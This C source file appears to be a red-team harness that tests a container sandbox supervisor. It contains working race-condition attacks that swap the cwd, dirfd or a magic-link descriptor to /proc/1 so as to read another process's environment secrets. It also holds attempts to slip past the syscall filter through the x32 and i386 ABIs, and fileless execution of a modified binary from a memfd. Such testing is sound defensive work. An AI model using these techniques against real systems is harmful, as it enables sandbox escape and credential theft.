/* Container red team: attacks that need no mediated call to set up (built static).
 *
 *   race-cwd  N      open("environ") N times relative to the cwd while another thread
 *                    moves the cwd from /tmp/d (an allowed file) to /proc/1 and back at
 *                    a chosen delay after each open starts (see flipper)
 *   race-dirfd N     the same with openat(dirfd) while another thread dup2()s /proc/1
 *                    over the dirfd
 *   race-fifo N      the same with /tmp/f, where "environ" is a FIFO (opened O_NONBLOCK)
 *   race-magic N     open("/tmp/m/environ"), a symlink to /proc/self/fd/100, while another
 *                    thread dup2()s an O_PATH descriptor of /tmp/d/environ or of
 *                    /proc/1/environ onto 100
 *   benign-race N, benign-fifo N, benign-magic N   the opens alone (no flipping)
 *   x32 | i386       getpid through another ABI (must be killed)
 *   memfd-exec FILE [flip]  copy FILE into a memfd (one byte changed with "flip") and
 *                    execveat(memfd, "", AT_EMPTY_PATH) it as "FILE echo RAN"
 *
 * The race modes print LEAK when a read returned the secret (TOKEN=...), then the number
 * of opens that succeeded and failed.
 */
#define _GNU_SOURCE
#include <fcntl.h>
#include <pthread.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/mman.h>
#include <sys/syscall.h>
#include <time.h>
#include <unistd.h>

static volatile int stop;
static volatile long go;  /* the opener's iteration, set just before each open */
static int dirfd_slot = 100, fd_good, fd_proc, use_dirfd;
static const char *good_dir = "/tmp/d";

static long now_ns(void) {
    struct timespec t;
    clock_gettime(CLOCK_MONOTONIC, &t);
    return t.tv_sec * 1000000000L + t.tv_nsec;
}

static void wait_until(long t) {
    while (now_ns() < t && !stop) {
    }
}

static void to_proc(void) {
    if (use_dirfd) dup2(fd_proc, dirfd_slot);
    else if (chdir("/proc/1") != 0) stop = 1;
}

static void to_good(void) {
    if (use_dirfd) dup2(fd_good, dirfd_slot);
    else if (chdir(good_dir) != 0) stop = 1;
}

/* For each open, wait a delay after the opener starts it, move the cwd (dirfd) onto
 * /proc/1 for a few microseconds, and move it back. The delay shrinks by 1 us per open,
 * from 3 ms down to 0: it passes through the moment between a supervisor's check of the
 * path and the kernel's own resolution of it, if there is such a moment, before it gets
 * early enough for the check itself to see /proc/1. */
static void *flipper(void *arg) {
    (void)arg;
    long seen = 0;
    while (!stop) {
        long i = go;
        if (i == seen) continue;
        seen = i;
        long start = now_ns();
        long delay = 3000000L - 1000L * i;
        if (delay < 0) delay = (i * 7919L) % 3000000L;  /* then at random */
        wait_until(start + delay);
        to_proc();
        wait_until(now_ns() + 3000);
        to_good();
    }
    return NULL;
}
static int race(const char *mode, long n) {
    int magic = strstr(mode, "magic") != NULL;
    use_dirfd = strcmp(mode, "race-dirfd") == 0 || magic;
    int flip = strncmp(mode, "race-", 5) == 0;
    int fifo = strstr(mode, "fifo") != NULL;
    int oflags = fifo ? O_RDONLY | O_NONBLOCK : O_RDONLY;
    long ok = 0, bad = 0, leaks = 0;
    char buf[4096];
    if (fifo) good_dir = "/tmp/f";
    if (chdir(good_dir) != 0) return 2;
    if (magic) {  /* /tmp/m/environ -> /proc/self/fd/100, and fd 100 is what flips */
        fd_good = open("/tmp/d/environ", O_PATH);
        fd_proc = open("/proc/1/environ", O_PATH);  /* benign too: the same events */
    } else {
        fd_good = open(good_dir, O_PATH | O_DIRECTORY);
        fd_proc = open("/proc/1", O_PATH | O_DIRECTORY);
    }
    if (fd_good < 0 || fd_proc < 0) return 2;
    dup2(fd_good, dirfd_slot);
    pthread_t t;
    if (flip && pthread_create(&t, NULL, flipper, NULL) != 0) return 2;
    for (long i = 0; i < n; i++) {
        go = i + 1;
        int fd = magic ? open("/tmp/m/environ", oflags)
                 : use_dirfd ? openat(dirfd_slot, "environ", oflags) : open("environ", oflags);
        if (fd < 0) {
            bad++;
            continue;
        }
        ok++;
        ssize_t got = read(fd, buf, sizeof buf - 1);
        close(fd);
        if (got > 0 && memmem(buf, (size_t)got, "TOKEN=", 6) != NULL) {
            leaks++;
            printf("LEAK\n");
            break;
        }
    }
    stop = 1;
    if (flip) pthread_join(t, NULL);
    printf("opens ok %ld failed %ld leaks %ld\n", ok, bad, leaks);
    return 0;
}

static int memfd_exec(const char *path, int flip) {
    int in = open(path, O_RDONLY);
    if (in < 0) return 2;
    off_t size = lseek(in, 0, SEEK_END);
    char *data = malloc((size_t)size);
    if (data == NULL || pread(in, data, (size_t)size, 0) != size) return 2;
    close(in);
    if (flip) {  /* one byte of a message the run does not print */
        char *s = memmem(data, (size_t)size, "applet not found", 16);
        if (s == NULL) return 2;
        s[0] = 'A';
    }
    int m = (int)syscall(SYS_memfd_create, "payload", 0);
    if (m < 0 || write(m, data, (size_t)size) != size) return 2;
    char *argv[] = {(char *)path, "echo", "RAN", NULL};
    char *envp[] = {NULL};
    syscall(SYS_execveat, m, "", argv, envp, AT_EMPTY_PATH);
    perror("execveat");
    return 1;
}

/* getpid through the x32 ABI (number | 0x40000000) or the i386 ABI (int 0x80): the
 * filter lists x86_64 only, so both must kill the process. */
static int other_abi(const char *which) {
    long r;
    if (strcmp(which, "x32") == 0) {
        r = syscall(0x40000000L | SYS_getpid);
    } else {
        long nr = 20; /* i386 getpid */
        __asm__ volatile("int $0x80" : "=a"(r) : "a"(nr) : "memory");
    }
    printf("ALIVE %ld\n", r);
    return 0;
}

int main(int argc, char **argv) {
    if (argc >= 2 && (strcmp(argv[1], "x32") == 0 || strcmp(argv[1], "i386") == 0))
        return other_abi(argv[1]);
    if (argc >= 3 && strncmp(argv[1], "race-", 5) == 0) return race(argv[1], atol(argv[2]));
    if (argc >= 3 && strncmp(argv[1], "benign-", 7) == 0 && strcmp(argv[1], "benign-race")
        && strcmp(argv[1], "benign-fifo") && strcmp(argv[1], "benign-magic"))
        return 2;
    if (argc >= 3 && strncmp(argv[1], "benign-", 7) == 0) return race(argv[1], atol(argv[2]));
    if (argc >= 3 && strcmp(argv[1], "memfd-exec") == 0)
        return memfd_exec(argv[2], argc > 3 && strcmp(argv[3], "flip") == 0);
    fprintf(stderr, "usage: container_attacks MODE ARGS\n");
    return 2;
}
